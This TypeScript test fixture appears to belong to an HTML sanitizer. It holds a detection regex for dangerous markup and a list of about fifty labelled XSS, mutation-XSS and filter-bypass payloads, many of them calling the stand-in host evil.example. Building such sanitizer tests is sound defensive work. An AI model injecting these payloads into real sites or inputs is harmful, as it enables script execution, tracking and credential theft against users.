/** A picture of one pixel. */
export const png =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** What must not be left of any of them. */
export const dangerous =
  /<(script|iframe|svg|math|form|input|button|base|meta|link|style|object|embed|template|noscript|video|audio)\b|\son\w+\s*=|javascript:|vbscript:|url\s*\(|@import|expression\s*\(|position\s*:|srcset|srcdoc|\bhttps?:\/\/evil|data:(?!image\/(png|jpeg|gif))/i;

/** HTML that would run, load or move something, by what it does. */
export const attacks: Record<string, string> = {
  'a script': '<p>Hi<script>alert(1)</script></p>',
  'a script in capitals with a break': '<p>Hi</p><SCRIPT\n>alert(1)</SCRIPT >',
  'a script within a script': '<p>Hi</p><scr<script>ipt>alert(1)</scr</script>ipt>',
  'an error handler': '<p>Hi</p><img src=x onerror=alert(1)>',
  'an error handler at a good picture': `<p>Hi</p><img src="${png}" onerror="alert(1)">`,
  'a handler behind a slash': '<p>Hi</p><img/src="x"/onerror=alert(1)>',
  'a handler at the body': '<body onload=alert(1)><p>Hi</p></body>',
  'a handler that starts by itself': '<p>Hi</p><details open ontoggle=alert(1)><summary>x</summary></details>',
  'a focus handler': '<p tabindex=1 autofocus onfocus=alert(1)>Hi</p>',
  'an SVG with a script': '<p>Hi</p><svg><script>alert(1)</script></svg>',
  'an SVG that animates a link': '<p>Hi</p><svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
  'an SVG that uses another': '<p>Hi</p><svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
  'an SVG as a picture': '<p>Hi</p><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  'markup that mutates in math':
    '<p>Hi</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'markup that mutates in a form':
    '<p>Hi</p><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  'markup that mutates in noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>Hi</p>',
  'markup that mutates in a template': '<template><img src=x onerror=alert(1)></template><p>Hi</p>',
  'markup in a title': '<title><img src=x onerror=alert(1)></title><p>Hi</p>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>--><p>Hi</p>',
  'a condition for old mail programs': '<!--[if mso]><script>alert(1)</script><![endif]--><p>Hi</p>',
  'a link to a script': '<a href="javascript:alert(1)">Hi</a>',
  'a link to a script with a tab': '<a href="java\tscript:alert(1)">Hi</a>',
  'a link to a script in entities': '<a href="&#106;avascript&colon;alert(1)">Hi</a>',
  'a link to a script behind a control character': '<a href="\u0001javascript:alert(1)">Hi</a>',
  'a link to a script behind an invisible character': '<a href="\u200Bjavascript:alert(1)">Hi</a>',
  'a link to another script': '<a href="vbscript:msgbox(1)">Hi</a>',
  'a link to a page as data': '<a href="data:text/html,<script>alert(1)</script>">Hi</a>',
  'a link to a file': '<a href="file:///etc/passwd">Hi</a>',
  'a frame': '<p>Hi</p><iframe src="https://evil.example"></iframe>',
  'a frame with a page in it': '<p>Hi</p><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object and an embed': '<p>Hi</p><object data="https://evil.example"></object><embed src="https://evil.example">',
  'a form':
    '<form action="https://evil.example"><p>Hi</p><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  'another base': '<base href="https://evil.example/"><p>Hi</p>',
  'a refresh': '<meta http-equiv=refresh content="0;url=https://evil.example"><p>Hi</p>',
  'a style sheet': '<link rel=stylesheet href="https://evil.example/x.css"><p>Hi</p>',
  'a style element': '<style>@import url(https://evil.example/x.css);p{position:fixed}</style><p>Hi</p>',
  'a picture elsewhere': '<p>Hi</p><img src="https://evil.example/pixel.gif">',
  'a picture elsewhere without a scheme': '<p>Hi</p><img src="//evil.example/pixel.gif">',
  'a picture set': `<p>Hi</p><img src="${png}" srcset="https://evil.example/x.png 2x">`,
  'a page called a picture': '<p>Hi</p><img src="data:image/png;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  'a background elsewhere': '<table background="https://evil.example/x.png"><tr><td>Hi</td></tr></table>',
  'a style with an address': '<p style="background:url(https://evil.example/x.png)">Hi</p>',
  'a style with a hidden address': '<p style="background:u\\72l(https://evil.example/x.png)">Hi</p>',
  'a style with an address in a comment': '<p style="background:ur/**/l(https://evil.example/x.png)">Hi</p>',
  'a style with an image set': '<p style="background-image:image-set(\'https://evil.example/x.png\' 1x)">Hi</p>',
  'a style that imports': '<p style="@import \'https://evil.example/x.css\'">Hi</p>',
  'a style with an expression': '<p style="width:expression(alert(1))">Hi</p>',
  'a style with a binding': '<p style="-moz-binding:url(https://evil.example/x.xml#x);behavior:url(x.htc)">Hi</p>',
  'a style that leaves its place': '<p style="position:fixed;inset:0;z-index:99">Hi</p>',
  'a style that ends its attribute': "<p style='color:red;\"><img src=x onerror=alert(1)>'>Hi</p>",
  'a property of its own': '<p style="--x:url(https://evil.example);background:var(--x)">Hi</p>',
  'a variable from elsewhere': '<p style="color:red;font:var(--evil)">Hi</p>',
};
